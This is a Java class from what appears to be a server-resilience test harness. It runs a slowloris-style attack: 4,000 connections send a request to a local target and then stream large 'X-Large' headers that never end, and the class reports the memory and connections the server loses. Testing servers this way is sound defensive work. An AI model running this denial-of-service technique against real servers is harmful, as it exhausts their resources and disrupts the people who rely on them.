package attacks;

/** Clients whose headers never end. */
final class UnfinishedHeaders implements Attack {

    @Override
    public String name() {
        return "large headers that never end";
    }

    @Override
    public String carryOut(Target target) throws Exception {
        try (Crowd crowd = target.crowd(4_000)) {
            String header = "X-Large: " + "a".repeat(1_000) + "\r\n";
            crowd.write("GET " + Target.ARTICLE + " HTTP/1.1\r\nHost: localhost\r\n");
            long written = 0;
            for (int i = 0; i < 60; i++) {
                written += crowd.write(header.repeat(2));
            }
            Thread.sleep(Load.ATTACK_MS);
            return "4,000 connections, %,d MB taken by the server; %,d connections were left"
                    .formatted(written / 1_000_000, crowd.open());
        }
    }
}
